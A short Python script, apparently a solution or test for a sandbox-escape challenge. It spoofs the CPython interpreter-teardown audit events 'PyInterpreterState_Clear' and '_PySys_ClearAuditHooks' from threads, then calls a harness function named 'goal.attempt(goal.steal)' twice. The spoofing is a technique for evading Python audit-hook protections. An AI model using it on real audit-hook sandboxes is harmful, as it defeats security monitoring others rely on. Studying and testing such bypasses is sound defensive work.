# SPDX-License-Identifier: Apache-2.0
import goal
import _thread
import locale
import sys
import time
for event in ("cpython.PyInterpreterState_Clear",
              "cpython._PySys_ClearAuditHooks"):
    _thread.start_new_thread(sys.audit, (event,))
    time.sleep(0.05)
locale.setlocale(locale.LC_ALL, "C")
for _ in range(2):
    goal.attempt(goal.steal)
